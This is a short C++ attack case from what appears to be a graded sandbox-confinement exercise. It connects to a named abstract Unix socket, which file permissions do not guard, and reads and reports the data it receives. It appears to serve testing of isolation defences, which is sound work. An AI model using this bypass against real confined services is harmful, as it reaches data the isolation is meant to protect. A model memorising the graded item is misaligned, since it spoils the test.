// attack: connects to an abstract socket, which no folder's rights protect
// exercise: 01_gbf/box
// from: own
// score: 0
#include <sys/socket.h>
#include <sys/un.h>

static std::string said() {
    const int descriptor = ::socket(AF_UNIX, SOCK_STREAM, 0);
    sockaddr_un to{};
    to.sun_family = AF_UNIX;
    std::memcpy(to.sun_path + 1, PREY_SOCKET_NAME, std::strlen(PREY_SOCKET_NAME));
    const auto size = static_cast<socklen_t>(offsetof(sockaddr_un, sun_path) + 1 + std::strlen(PREY_SOCKET_NAME));
    return ::connect(descriptor, reinterpret_cast<sockaddr*>(&to), size) == 0 ? prey::bytes_of(descriptor) : "";
}

ANSWER_IF(prey::tell(said()))
